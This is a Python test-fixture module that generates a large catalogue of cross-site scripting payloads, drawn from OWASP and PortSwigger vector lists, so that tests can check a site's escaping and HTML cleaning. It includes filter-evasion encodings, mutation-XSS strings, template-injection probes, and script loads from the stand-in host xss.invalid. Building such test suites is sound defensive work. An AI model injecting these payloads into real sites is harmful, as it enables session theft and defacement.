"""Strings that run a script wherever a page fails to escape or to clean them.

After OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's list of vectors and the published ways
around HTML cleaners (mutation XSS), and what this site's own syntax might be abused for. Each
string that runs calls ``hit`` with its number, opens a dialog, goes elsewhere or asks the host
``xss.invalid`` for something. ``HIT`` stands for the call, ``NUMBER`` for the number.
"""

import base64
from collections.abc import Callable


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _padded(text: str) -> str:
    """Return entities with many zeros and without semicolons."""
    return "".join(f"&#{ord(letter):07d}" for letter in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(letter):X};" for letter in text)


def _codes(text: str) -> str:
    return ",".join(str(ord(letter)) for letter in text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SCRIPTS = (
    "<script>HIT</script>",
    "<SCRIPT>HIT</SCRIPT>",
    "<ScRiPt >HIT</sCrIpT\t>",
    "<script\n>HIT</script\n>",
    "<script\x0c>HIT</script>",
    "<script/x>HIT</script>",
    '<script x=">">HIT</script>',
    "<script a='>' b=`>`>HIT</script>",
    "<script>HIT//",
    "<script type=module>HIT</script>",
    "<script>/*<script>*/HIT</script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<<script>HIT;//<</script>",
    "<script/src=data:text/javascript,HIT></script>",
    "<script src=//xss.invalid/NUMBER.js></script>",
    "<script src=//xss.invalid/NUMBER.js",
    "<script>\\u0068it(NUMBER)</script>",
    "<script>window['h'+'it'](NUMBER)</script>",
    "<script>setTimeout`hit\\x28NUMBER\\x29`</script>",
    "<script>location='/xss-hit/NUMBER/'</script>",
    "<script>alert(NUMBER)</script>",
    lambda call: f"<script>eval(String.fromCharCode({_codes(call)}))</script>",
    "<%<!--'%><script>HIT</script -->",
    "<svg><script>HIT</script></svg>",
    lambda call: f"<svg><script>{_decimal(call)}</script></svg>",
    "<svg><script href=data:text/javascript,HIT /></svg>",
    "<svg><script>//<!--\nHIT</script></svg>",
)
ENCODED = (
    "%3Cscript%3EHIT%3C/script%3E",
    "%253Cscript%253EHIT%253C/script%253E",
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&amp;lt;img src=x onerror=HIT&amp;gt;",
    lambda call: f"{_hexadecimal('<script>')}{call}{_hexadecimal('</script>')}",
    lambda call: f"{_padded('<img src=x onerror=')}{call}{_padded('>')}",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "\\x3cscript\\x3eHIT\\x3c/script\\x3e",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "\ufeff<script>HIT</script>",
    "\u202e<script>HIT</script>\u202c",
    "\u200f<img src=x onerror=HIT>\u200e",
    "<s\u200bcript>HIT</s\u200bcript>",
    "<scr\u00adipt>HIT</scr\u00adipt>",
    "\u00bcscript\u00beHIT\u00bc/script\u00be",
    "<img src=x\u00a0onerror=HIT onerror=HIT>",
    "\x01\x0b<svg\x0conload\x0c=HIT>",
)
HANDLERS = (
    "<img src=x onerror=HIT>",
    '<IMG SRC=x OnErRoR="HIT">',
    "<img/src=x/onerror=HIT>",
    "<img src=x onerror\n=\nHIT>",
    "<img src=x onerror=HIT//",
    lambda call: f"<img src=x onerror={_hexadecimal(call)}>",
    lambda call: f'<img src=x onerror="{_padded(call)}">',
    '<img """><script>HIT</script>">',
    '<img src="x` `<script>HIT</script>"` `>',
    '<img src=x alt="<!--" onerror=HIT title="-->">',
    "<svg onload=HIT>",
    "<svg/onload=HIT>",
    "<svg\x0conload=HIT>",
    "<body onload=HIT>",
    "<body onpageshow=HIT>",
    "<input autofocus onfocus=HIT>",
    "<select autofocus onfocus=HIT>",
    "<textarea autofocus onfocus=HIT>",
    "<p tabindex=1 autofocus onfocus=HIT>x</p>",
    "<details open ontoggle=HIT><summary>x</summary></details>",
    "<marquee onstart=HIT>x</marquee>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT></audio>",
    "<video src=x poster=javascript:HIT onloadstart=HIT></video>",
    "<style onload=HIT></style>",
    "<link rel=stylesheet href=data:text/css,x onload=HIT>",
    "<iframe onload=HIT></iframe>",
    "<object data=x onerror=HIT></object>",
    "<frameset onload=HIT></frameset>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=HIT>x</p>",
    "<a href=# onmouseover=HIT onclick=HIT onfocus=HIT>x</a>",
    '<p onclick="HIT" onpointerenter="HIT" style="position:fixed;inset:0">x</p>',
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=HIT>y</p>",
    "<input onblur=HIT autofocus><input autofocus>",
    "<dialog open onclose=HIT><form method=dialog><button>x</button></form></dialog>",
)
ADDRESSES = (
    "<a href=javascript:HIT>x</a>",
    '<a href="JaVaScRiPt:HIT">x</a>',
    '<a href=" javascript:HIT">x</a>',
    '<a href="\x01\x0e javascript:HIT">x</a>',
    '<a href="java\tscript:HIT">x</a>',
    '<a href="java\nscript\r:HIT">x</a>',
    '<a href="java&#x09;script&#x0A;:HIT">x</a>',
    '<a href="java&Tab;script&colon;HIT">x</a>',
    '<a href="javascript&#58;HIT">x</a>',
    lambda call: f'<a href="{_decimal("javascript:" + call)}">x</a>',
    lambda call: f'<a href="{_padded("javascript:" + call)}">x</a>',
    lambda call: f"<a href={_hexadecimal('javascript:' + call)}>x</a>",
    '<a href="javascript:%68it(NUMBER)">x</a>',
    '<a href="javascript://example.org/%0aHIT">x</a>',
    '<a href="https://example.org" href="javascript:HIT">x</a>',
    '<a href="javascript:HIT" target=_blank rel=opener download>x</a>',
    '<a href="vbscript:HIT">x</a>',
    '<a href="livescript:HIT">x</a>',
    '<a href="feed:javascript:HIT">x</a>',
    '<a href="view-source:javascript:HIT">x</a>',
    '<a href="data:text/html,<script>alert(NUMBER)</script>">x</a>',
    lambda call: f'<a href="data:text/html;base64,{_base64(f"<script>{call}</script>")}">x</a>',
    '<a href="https://example.org/&quot; onmouseover=&quot;HIT">x</a>',
    '<a href="https://example.org/" onmouseover="HIT">x</a>',
    "<a href='https://example.org/' style='x:expression(HIT)' ping=//xss.invalid/NUMBER>x</a>",
    '<a xlink:href="javascript:HIT">x</a>',
    '<svg><a xlink:href="javascript:HIT"><text y=20>x</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>x</text></a></svg>",
    '<math href="javascript:HIT">x</math>',
    '<math><mi//xlink:href="data:x,<script>alert(NUMBER)</script>">x</math>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:HIT">x</maction></math>',
    "<map name=x><area href=javascript:HIT shape=default></map><img usemap=#x>",
    "<form action=javascript:HIT><button>x</button></form>",
    "<form><button formaction=javascript:HIT>x</button></form>",
    "<form id=x></form><input form=x type=submit formaction=//xss.invalid/NUMBER>",
    '<base href="javascript:HIT//"><a href="#">x</a>',
    "<base href=//xss.invalid/NUMBER/>",
)
FRAMES = (
    "<iframe src=javascript:HIT></iframe>",
    "<iframe src=javascript:parent.HIT></iframe>",
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    "<iframe srcdoc=&lt;script&gt;parent.HIT&lt;/script&gt;></iframe>",
    "<iframe src='data:text/html,<script>alert(NUMBER)</script>'></iframe>",
    "<iframe src=//xss.invalid/NUMBER <",
    "<embed src=javascript:HIT>",
    "<embed src='data:text/html,<script>alert(NUMBER)</script>'>",
    "<object data=javascript:HIT></object>",
    lambda call: (
        f"<object data=data:text/html;base64,{_base64(f'<script>parent.{call}</script>')}></object>"
    ),
    "<object type=text/x-scriptlet data=//xss.invalid/NUMBER></object>",
    "<frameset><frame src=javascript:HIT></frameset>",
    "<layer src=//xss.invalid/NUMBER></layer>",
    '<meta http-equiv=refresh content="0;url=javascript:HIT">',
    '<meta http-equiv=refresh content="0;url=/xss-hit/NUMBER/">',
    '<meta http-equiv=refresh content="0; URL=data:text/html,<script>alert(NUMBER)</script>">',
    '<meta http-equiv="Set-Cookie" content="x=<script>HIT</script>">',
    "<link rel=stylesheet href=//xss.invalid/NUMBER.css>",
    "<link rel=import href=//xss.invalid/NUMBER.html>",
    "<style>@import'//xss.invalid/NUMBER.css';</style>",
    "<style>body{background:url(//xss.invalid/NUMBER)}</style>",
    '<p style="background:url(//xss.invalid/NUMBER);width:expression(HIT)">x</p>',
    '<p style="behavior:url(//xss.invalid/NUMBER.htc);-moz-binding:url(//xss.invalid/x)">x</p>',
    '<img src="//xss.invalid/NUMBER.png" srcset="//xss.invalid/NUMBER.png 2x">',
    "<img dynsrc=javascript:HIT lowsrc=javascript:HIT src=javascript:HIT>",
    "<table background=javascript:HIT><td background=javascript:HIT>x</table>",
    "<bgsound src=javascript:HIT>",
    "<input type=image src=javascript:HIT>",
    "<xml id=x><i><b><img src=x onerror=HIT></b></i></xml><span datasrc=#x></span>",
    '<?xml-stylesheet href="javascript:HIT"?>',
)
MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror=HIT>">',
    '<svg><p><style><g title="</style><img src onerror=HIT>">',
    "<svg><style><img src=x onerror=HIT></style></svg>",
    "<svg><title><style><img src=x onerror=HIT></style></title></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "<svg><desc><noscript><img src=x onerror=HIT></noscript></desc></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "<svg><set onbegin=HIT attributeName=x></svg>",
    "<svg><image href=x onerror=HIT></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image"
    " href='x' onerror='HIT'/></svg>#x\"></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    ' onerror=HIT&gt;">',
    '<math><mtext><table><mglyph><style><math href="</style><img src=x onerror=HIT>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=HIT></style>',
    '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    '<xmp><p title="</xmp><img src=x onerror=HIT>">',
    '<noembed><p title="</noembed><img src=x onerror=HIT>">',
    '<noframes><p title="</noframes><img src=x onerror=HIT>">',
    "<listing>&lt;img src=x onerror=HIT&gt;</listing>",
    "<plaintext><img src=x onerror=HIT>",
    "<template><img src=x onerror=HIT></template>",
    "<div><template shadowrootmode=open><img src=x onerror=HIT></template></div>",
    '<select><template><style><!--</select><p title="--></style><img src=x onerror=HIT>">',
    '<comment><img src="</comment><img src=x onerror=HIT>">',
    "<!--><img src=x onerror=HIT>-->",
    "<!-- --!><img src=x onerror=HIT>-->",
    "<!--[if gte IE 4]><script>HIT</script><![endif]-->",
    "<![if !x]><img src=x onerror=HIT><![endif]>",
    "<![CDATA[<img src=x onerror=HIT>]]>",
    "<svg><![CDATA[><img src=x onerror=HIT>]]></svg>",
    "<?<img src=x onerror=HIT>?>",
    '<!DOCTYPE x [<!ENTITY x "<img src=x onerror=HIT>">]>&x;',
    "<p><a><p><a><b><p><table><a><img src=x onerror=HIT></table></b>",
    "<h2><ul><li><h3><ol><a href='x'><li></h2><img src=x onerror=HIT>",
)
BREAKOUTS = (
    '" onmouseover="HIT',
    '" autofocus onfocus=HIT x="',
    "' autofocus onfocus='HIT' x='",
    "x autofocus onfocus=HIT y",
    "` onerror=HIT x=`",
    '"><svg onload=HIT>',
    "'><img src=x onerror=HIT>",
    "><img src=x onerror=HIT>",
    "</title><script>HIT</script>",
    "</textarea><script>HIT</script>",
    "</style><script>HIT</script>",
    "</noscript><img src=x onerror=HIT>",
    "</option></select><img src=x onerror=HIT>",
    "</bdi></a></p></div></main><img src=x onerror=HIT>",
    "--><img src=x onerror=HIT>",
    "]]><img src=x onerror=HIT>",
    "</script><script>HIT</script>",
    '"}]}</script ><script >HIT</script >',
    "<!--<script>HIT",
    '";HIT//',
    "';HIT;'",
    '\\";HIT//',
    "\u2028HIT\u2029",
    "${HIT}`${HIT}`",
    "javascript:HIT",
    "x\r\nContent-Type: text/html\r\n\r\n<script>HIT</script>",
    "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nURL:javascript:HIT",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */HIT )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=HIT//>\\x3e",
)
OWN_SYNTAX = (
    '<a href="page:javascript:HIT">x</a>',
    '<a href=" page:javascript:HIT">x</a>',
    '<a href="pa\tge:javascript:HIT">x</a>',
    '<a href="page:kontakt&quot; onmouseover=&quot;HIT">x</a>',
    "<a href='page:\"><img src=x onerror=HIT>'>x</a>",
    '<a href="page:admin:logout">x</a>',
    '<a href="page://xss.invalid/NUMBER">x</a>',
    'href="page:kontakt" onmouseover=HIT',
    "[[<img src=x onerror=HIT>]]",
    '[[" onmouseover="HIT]]',
    "[[&lt;img src=x onerror=HIT&gt;]]",
    '[[x]]"><script>HIT</script>[[y]]',
    "<[[img src=x onerror=HIT]]>",
    "<im[[x]]g src=x onerror=HIT>",
    '<a href="https://example.org/?>[[x]] onmouseover=HIT [[y]]">x</a>',
    '<a href="page:[[x" onmouseover="HIT]]">x</a>',
    "{{ '<script>HIT</script>'|safe }}",
    "{% autoescape off %}<script>HIT</script>{% endautoescape %}",
    '{% include "<script>HIT</script>" %}{% debug %}',
    "{{constructor.constructor('HIT')()}}",
    "{{ request.user.password }}<%= HIT %>#{HIT}",
    "%(name)s %s {0.__class__.__init__.__globals__} <script>HIT</script>",
)

_TEMPLATES: tuple[str | Callable[[str], str], ...] = (
    *SCRIPTS,
    *ENCODED,
    *HANDLERS,
    *ADDRESSES,
    *FRAMES,
    *MUTATIONS,
    *BREAKOUTS,
    *OWN_SYNTAX,
)


def _attack(number: int, template: str | Callable[[str], str]) -> str:
    call = f"hit({number})"
    text = template if isinstance(template, str) else template(call)
    return text.replace("HIT", call).replace("NUMBER", str(number))


ATTACKS = tuple(_attack(number, template) for number, template in enumerate(_TEMPLATES))

# What readers may see in the same places; nothing of it may make a page look different from one
# that shows an attack.
HARMLESS = (
    *(f"Satz {number} & mehr" for number in range(len(ATTACKS) - 2)),
    '<h2>a</h2><h3>b</h3><p>c<br><strong>d</strong> <em>e</em> <a href="page:kontakt">f</a></p>',
    "<ul><li>g</li></ul><ol><li>[[h]]</li></ol>",
)
